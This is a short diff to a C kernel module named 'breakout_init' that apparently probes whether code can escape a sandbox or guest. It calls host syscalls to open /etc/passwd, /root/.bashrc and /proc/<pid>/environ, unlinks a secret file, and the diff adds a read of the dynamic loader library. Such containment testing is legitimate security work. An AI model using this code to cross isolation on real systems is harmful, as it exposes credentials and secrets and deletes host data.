@@ -45,6 +45,7 @@ static int __init breakout_init(void)
 	tell("unlink", host(87, (long)secret, 0, 0, 0));
 	tell("read home", host(2, (long)"/root/.bashrc", 0, 0, 0));
 	tell("read passwd", host(2, (long)"/etc/passwd", 0, 0, 0));
+	tell("read a library", host(2, (long)"/lib64/ld-linux-x86-64.so.2", 0, 0, 0));
 	tell("list a directory", host(2, (long)"/var", 0200000, 0, 0));
 	snprintf(place, sizeof(place), "/proc/%d/environ", pid);
 	tell("read environ", host(2, (long)place, 0, 0, 0));
